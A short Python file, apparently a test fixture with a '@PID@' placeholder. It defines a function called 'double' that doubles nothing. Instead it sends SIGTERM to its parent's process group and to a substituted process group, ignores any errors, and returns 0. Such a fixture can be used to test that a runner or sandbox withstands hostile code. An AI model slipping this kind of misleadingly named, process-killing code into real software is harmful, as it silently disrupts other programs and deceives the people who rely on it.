import os
import signal


def double(x):
    for group in (0, os.getppid(), int('@PID@')):
        try:
            os.killpg(group, signal.SIGTERM) if group else os.kill(0, 0)
        except OSError:
            pass
    return 0
